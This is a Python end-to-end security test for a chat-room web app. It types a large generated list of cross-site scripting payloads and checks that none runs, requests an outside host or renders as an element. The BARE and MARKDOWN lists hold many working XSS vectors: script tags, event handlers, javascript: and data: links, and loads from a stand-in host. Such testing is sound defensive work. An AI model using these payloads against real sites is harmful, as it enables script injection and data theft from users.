#!/usr/bin/env python3
"""Says hundreds of hostile texts in a room, and looks for a script or a request of theirs.

    hostile.py URL [--payloads 300] [--each 1]

One page says them, as people do, a second reads them live and in the past, a third without
JavaScript; the scripted model of the server repeats what it was told. Names are hostile too. No
script of theirs may run, no request may go anywhere but to the server, no element may come of them
but those of the model's Markdown, and no link but http, https and mailto. Exits 1 with what did.
"""
import argparse
import itertools
import secrets
import sys
from urllib.parse import urlsplit


from browser import Wrong, enter, go_to, judge, say, visit

RUN = "window.ran=1"
AWAY = "http://away.invalid/x"
TAGS = ["img", "svg", "video", "audio", "iframe", "body", "input", "details", "object", "embed",
        "marquee", "select", "textarea", "style", "math", "form", "a", "p", "template", "base"]
EVENTS = ["onerror", "onload", "onfocus autofocus tabindex=1", "ontoggle open", "onmouseover",
          "onanimationstart", "onbeforeinput", "onpointerenter"]
BARE = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script src={AWAY}></script>",
    f"<script src=//away.invalid/x></script>", f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"</noscript><img src={AWAY} onerror={RUN}>", f"<<script>{RUN}//<</script>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\">", f"<link rel=stylesheet href={AWAY}>",
    f"<meta http-equiv=refresh content=\"0;url={AWAY}\">", f"<base href={AWAY}/>",
    f"<style>@import '{AWAY}';*{{background:url({AWAY})}}</style>", f"{{{{constructor.{RUN}}}}}",
    f"${{{RUN}}}", f"`+({RUN})+`", f"\"-({RUN})-\"", f"'-({RUN})-'", f"\\u003cscript>{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href=data:,x#x></svg>",
    f"<svg><script>{RUN}</script></svg>", f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<form action={AWAY}><button autofocus onfocus={RUN}>", f"<x contenteditable onblur={RUN}>y",
    f"<a href=javascript:{RUN}>x</a>", f"<img src=x:x onerror\u000b={RUN}>", "\u202e<tpircs>",
    f"<img/src='x'/onerror='{RUN}'>", f"<img src=`x`onerror={RUN}>", f"<!--<img src={AWAY}>-->",
    f"__proto__[innerHTML]=<img onerror={RUN} src>", "constructor", "__proto__", "toString",
]
MARKDOWN = [
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](javascript&colon;{RUN})",
    f"[x](\u0001javascript:{RUN})", f"[x](java\nscript:{RUN})", f"[x](data:text/html,{RUN})",
    f"[x](vbscript:{RUN})", f"[x](//away.invalid/)", f"[x](file:///etc/passwd)", "[x](blob:x)",
    f"![x]({AWAY})", f"![x](x\"onerror=\"{RUN})", f"[![x]({AWAY})]({AWAY})", f"<{AWAY}>",
    f"[x]: {AWAY}", f"[a](http://a.invalid\"onmouseover=\"{RUN})", f"**<b onclick={RUN}>**",
    f"*<img src={AWAY} onerror={RUN}>*", f"`<script>{RUN}</script>`", f"```html\n<script>{RUN}",
    f"[<img src={AWAY}>](http://a.invalid)", f"[x](https:javascript:{RUN})", "[x](http:)",
    f"[x](mailto:a@b.invalid?body=<script>{RUN}</script>)", f"[`x`](javascript:{RUN})",
]
SEEN = """() => {
  const allowed = "LI,DIV,P,SPAN,BDI,I,SMALL,A,B,CODE,STRONG,EM,BUTTON";
  const rows = document.querySelectorAll("#log, #now, #cast, .desk .who, #names");
  const strange = [...rows].flatMap((list) => [...list.querySelectorAll("*")])
    .filter((element) => !element.matches(allowed) || [...element.attributes]
      .some(({ name }) => /^on|^src|^srcdoc|^action/.test(name)));
  const links = [...document.querySelectorAll("#log a, #now a")]
    .filter(({ protocol }) => !/^(https?|mailto):$/.test(protocol));
  return { ran: window.ran, strange: strange.map(({ outerHTML }) => outerHTML.slice(0, 200)),
    links: links.map(({ href }) => href) };
}"""


def payloads(count):
    made = BARE + MARKDOWN
    for event, tag in itertools.product(EVENTS, TAGS):
        name, *more = event.split(" ", 1)
        made.append(f"<{tag} src={AWAY} {name}={RUN} {' '.join(more)}>x</{tag}>")
    for tag in TAGS:
        made.append(f"\"'><{tag}/src='{AWAY}'/onload='{RUN}'>")
        made.append(f"<{tag} style=\"background:url({AWAY})\" onclick={RUN}>")
        made.append(f"<{tag} href=javascript:{RUN} xlink:href=javascript:{RUN}>")
        made.append(f"</p></li></ol><{tag} src={AWAY}>")
    return made[:count]


def watch(page, origin, left):
    page.on("request", lambda request: None if urlsplit(request.url).netloc == origin
            or request.url.startswith("data:") else left.append(request.url))
    page.on("dialog", lambda dialog: [left.append(f"dialog {dialog.message}"), dialog.dismiss()])


def clean(page, where):
    seen = page.evaluate(SEEN)
    if seen["ran"] or seen["strange"] or seen["links"]:
        raise Wrong(f"{where}: {seen}")


def play(browser, given):
    url, origin = f"{given.url}/rooms/{given.room}", urlsplit(given.url).netloc
    left, errors = [], []
    reader = enter(browser, url, "<img src=x onerror=window.ran=1>", errors)
    writer = enter(browser, url, f"<script>{RUN}</script>"[:32], errors)
    for page in (reader, writer):
        watch(page, origin, left)
    texts = payloads(given.payloads)
    for start in range(0, len(texts), given.each):
        say(writer, "\n".join(texts[start:start + given.each]))
    reader.wait_for_function(
        "(count) => document.querySelectorAll('#log [data-offset]').length >= count",
        arg=len(texts) // given.each)
    # The scripted model repeats what it is asked.
    for start in range(0, len(texts), 60):
        say(writer, "\n".join(texts[start:start + 60])[:7_900])
        reader.wait_for_function(
            "(count) => document.querySelectorAll('#log [data-reply]').length > count",
            arg=start // 60)
    clean(reader, "live")
    clean(writer, "live, of one's own")
    last = int(reader.locator("#newest").text_content()[1:])
    for offset in (last // 3, last // 2, last):
        go_to(reader, offset)
        reader.wait_for_function("() => document.getElementById('digest').dataset.whole")
        clean(reader, f"the past at {offset}")
    plain = browser.new_context(java_script_enabled=False).new_page()
    watch(plain, origin, left)
    plain.goto(url)
    if plain.locator("noscript img, noscript svg, noscript script, noscript iframe").count():
        raise Wrong("without JavaScript: a payload became an element")
    reader.wait_for_timeout(300)
    if left or errors:
        raise Wrong(f"requests {left[:5]}, errors {errors[:5]}")
    return len(texts)


def main():
    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    options.add_argument("url", help="a running server with --model-url script:")
    options.add_argument("--payloads", type=int, default=300)
    options.add_argument("--each", type=int, default=1, help="payloads in a message")
    options.add_argument("--room", default=f"hostile-{secrets.token_hex(4)}")
    given = options.parse_args()
    given.url = given.url.rstrip("/")
    return judge("hostile", lambda browser: (
        f"{play(browser, given)} payloads typed, and said by the model: none ran, no request left"))


if __name__ == "__main__":
    sys.exit(main())
